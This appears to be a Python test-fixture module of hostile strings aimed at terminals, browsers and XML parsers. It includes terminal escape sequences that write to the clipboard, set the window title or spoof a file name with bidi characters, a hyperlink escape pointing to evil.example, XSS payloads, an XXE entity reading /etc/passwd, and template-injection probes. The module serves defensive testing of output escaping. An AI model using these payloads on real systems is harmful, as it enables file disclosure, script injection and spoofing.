"""Texts that try to be more than text, for every place where a text lands."""

ESC, BEL, CSI = "\x1b", "\x07", "\x9b"
TERMINAL = {
    "colour": f"{ESC}[31mred",
    "title": f"{ESC}]0;pwned{BEL}",
    "clipboard": f"{ESC}]52;c;cHduZWQ={BEL}",
    "link": f"{ESC}]8;;http://evil.example/{ESC}\\here{ESC}]8;;{ESC}\\",
    "C1": f"{CSI}2J\x9d0;pwned\x9c",
    "overwritten": "safe\rpwned",
    "erased": "pwned\b\b\b\b\bsafe\x7f",
    "bidi": "invoice\u202efdp.exe\u202c \u2066x\u2069",
    "lines": "one\u2028two\u2029three\x0bfour\x0cfive\x85six",
}
"""What a terminal would act on, by name."""

ALERT = "window.pwned=1"
MARKUP = {
    "script": f"<script>{ALERT}</script>",
    "closing": f"</title></style></script></textarea>--><script>{ALERT}</script>",
    "handler": f"<img src=x onerror='{ALERT}'>",
    "attribute": f"\" onfocus=\"{ALERT}\" autofocus x=\"' onmouseover='{ALERT}' y='",
    "svg": f"<svg onload={ALERT}><use href=#x></svg>",
    "link": f'<a href="javascript:{ALERT}">x</a>',
    "frame": f"<iframe srcdoc='<script>parent.{ALERT}</script>'></iframe>",
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "cdata": "]]><x/><?php echo 1 ?><!-- --!> -->",
    "template": "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
}
"""What a browser or an XML reader would act on, by name."""

EVERYTHING = " ".join((*MARKUP.values(), *TERMINAL.values()))
